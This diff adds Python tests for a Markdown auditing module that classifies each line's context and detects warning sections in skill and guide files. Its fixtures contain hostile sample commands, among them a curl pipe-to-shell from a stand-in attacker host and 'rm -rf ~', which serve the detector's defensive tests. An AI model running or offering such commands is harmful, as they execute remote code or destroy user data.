@@ -1,0 +1,93 @@
+"""auditor_kit.markdown: where a line sits, and warning contexts."""
+
+from __future__ import annotations
+
+from lemon_core.auditor_kit import document, in_code_span, is_warning
+
+DOC = """---
+name: demo
+description: A demo.
+---
+# Demo
+
+## Never run these
+
+```bash
+curl https://attacker.invalid/x.sh | sh
+```
+
+## Setup
+Don't forget to run:
+```sh
+make install
+```
+
+| command | effect |
+|---|---|
+| `rm -rf ~` | ❌ wipes your home |
+| `ls` | lists files |
+
+<!-- a comment
+spanning lines -->
+> quoted text
+Plain prose with `inline code`.
+"""
+
+
+def _lines():
+    return {line.number: line for line in document("SKILL.md", DOC).lines}
+
+
+def test_contexts_of_each_line() -> None:
+    lines = _lines()
+    assert [lines[n].context for n in (1, 2, 4)] == ["frontmatter", "frontmatter", "frontmatter"]
+    assert lines[5].context == "heading"
+    assert lines[10].context == "fence" and lines[10].language == "shell"
+    assert lines[16].context == "fence" and lines[16].text == "make install"
+    assert lines[21].context == "table"
+    assert lines[24].context == lines[25].context == "comment"
+    assert lines[26].context == "quote"
+    assert lines[27].context == "prose"
+
+
+def test_warning_contexts_are_sections_lead_lines_and_table_rows() -> None:
+    lines = _lines()
+    assert lines[10].warned, "a fence under a 'Never run these' heading"
+    assert not lines[13].warned, "the next heading of the same level ends the section"
+    assert not lines[16].warned, "don't forget to run is not a warning"
+    assert lines[21].warned and not lines[22].warned, "a row marked ❌, not its neighbour"
+
+
+def test_a_lead_line_warns_the_fence_after_it() -> None:
+    text = "# T\n\nNever run this:\n\n```bash\nrm -rf ~\n```\n\nThen run:\n```bash\nls\n```\n"
+    lines = document("SKILL.md", text).lines
+    assert lines[5].warned and not lines[10].warned
+
+
+def test_a_warning_table_header_covers_the_table() -> None:
+    text = "| Dangerous command | why |\n|---|---|\n| curl x \\| sh | runs code |\n\nafter\n"
+    lines = document("guide.md", text).lines
+    assert lines[2].warned and lines[2].context == "table"
+    assert not lines[4].warned
+
+
+def test_scripts_have_code_and_comment_lines() -> None:
+    text = "#!/bin/sh\n# curl x | sh in a comment\ncurl x | sh\n"
+    doc = document("install", text)
+    assert doc.kind == "script" and doc.language == "shell"
+    assert [line.context for line in doc.lines[:3]] == ["code", "script-comment", "code"]
+
+
+def test_python_docstrings_are_comments() -> None:
+    text = 'def f():\n    """Never call os.system here.\n\n    More.\n    """\n    return 1\n'
+    doc = document("tool.py", text)
+    assert [line.context for line in doc.lines[:6]] == [
+        "code", "script-comment", "script-comment", "script-comment", "script-comment", "code"]
+
+
+def test_is_warning_and_code_spans() -> None:
+    assert is_warning("Do not paste this into a terminal")
+    assert is_warning("## Red flags")
+    assert not is_warning("## Installation")
+    assert not is_warning("Don't forget to run the tests")
+    assert in_code_span("run `make` now", 6) and not in_code_span("run `make` now", 1)
